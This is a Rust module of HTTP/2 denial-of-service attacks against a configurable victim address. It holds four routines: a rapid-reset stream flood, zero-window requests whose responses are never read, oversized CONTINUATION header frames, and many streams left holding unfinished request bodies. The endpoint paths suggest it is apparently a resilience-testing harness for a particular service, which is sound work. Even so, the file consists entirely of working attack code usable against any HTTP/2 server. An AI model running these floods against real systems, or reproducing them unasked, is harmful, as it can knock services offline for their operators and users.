//! Attacks over HTTP/2.

use std::sync::Arc;

use tokio::io::AsyncWriteExt;

use crate::attack::{Victim, at_most, connect};
use crate::attacks::keep_open;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, RST_STREAM,
    beginning, frame, head_of,
};

/// The first streams of a client.
fn streams() -> impl Iterator<Item = u32> {
    (1..).step_by(2)
}

pub(crate) async fn resets(victim: Arc<Victim>) {
    let pair = |stream| {
        let open = frame(HEADERS, END_HEADERS, stream, &head_of("/health/ready"));
        [open, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    };
    let mut pace = at_most(50);
    loop {
        let Ok(mut socket) = connect(victim.address).await else {
            continue;
        };
        let mut is_open = socket.write_all(&beginning(&[])).await.is_ok();
        for pairs in streams().take(10_000).collect::<Vec<_>>().chunks(20) {
            if !is_open {
                break;
            }
            pace.tick().await;
            let bytes: Vec<u8> = pairs.iter().copied().flat_map(pair).collect();
            is_open = socket.write_all(&bytes).await.is_ok();
        }
    }
}

pub(crate) async fn unread_responses(victim: Arc<Victim>) {
    let flags = END_HEADERS | END_STREAM;
    let get = |stream| frame(HEADERS, flags, stream, &head_of("/openapi.json"));
    let requests = streams().take(100).flat_map(get).collect();
    let no_window = beginning(&[(INITIAL_WINDOW_SIZE, 0)]);
    keep_open(victim.address, &[no_window, requests].concat()).await;
}

pub(crate) async fn large_heads(victim: Arc<Victim>) {
    let header = [&[0, 1, b'x', 126][..], &[b'y'; 126]].concat().repeat(50);
    let head = frame(HEADERS, END_STREAM, 1, &head_of("/workflows"));
    let more = frame(CONTINUATION, 0, 1, &header);
    keep_open(
        victim.address,
        &[beginning(&[]), head, more.repeat(2)].concat(),
    )
    .await;
}

pub(crate) async fn bodies_without_key(victim: Arc<Victim>) {
    let post = |stream| {
        let head = frame(HEADERS, END_HEADERS, stream, &head_of("/v1/workers"));
        [head, frame(DATA, 0, stream, &[b'['; 2_000])].concat()
    };
    let requests: Vec<u8> = streams().take(30).flat_map(post).collect();
    keep_open(victim.address, &[beginning(&[]), requests].concat()).await;
}
